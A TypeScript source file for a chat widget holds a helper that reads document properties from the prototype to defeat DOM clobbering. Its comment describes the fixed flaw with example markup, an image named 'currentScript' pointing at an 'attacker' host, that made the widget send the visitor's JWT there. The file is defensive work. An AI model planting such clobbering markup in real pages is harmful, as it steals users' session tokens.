/**
 * `document[name]` as the browser defines it, never an element of the host
 * page (DOM clobbering, issue 16). `document` exposes each `<img name>`,
 * `<form name>`, `<embed name>`, `<object name>` and `<iframe name>` as a
 * property that wins over its own members: `<img name="currentScript"
 * src="https://attacker/…/loader.js">` made the widget take its server from the
 * image and POST the visitor's JWT there, and `<img name="createElement">`
 * stopped it from starting. Markup in a review or a profile field is enough.
 * Read from the prototype with the document as receiver, the named elements
 * are skipped; a method comes back bound to the document.
 *
 * `window` needs no such care: its named elements never shadow what it
 * defines, only names it lacks (`_chatq`, see loader.ts).
 */
export function fromDocument<K extends keyof Document>(name: K): Document[K] {
  const value = Reflect.get(Object.getPrototypeOf(document), name, document) as Document[K];
  return typeof value === 'function' ? value.bind(document) : value;
}
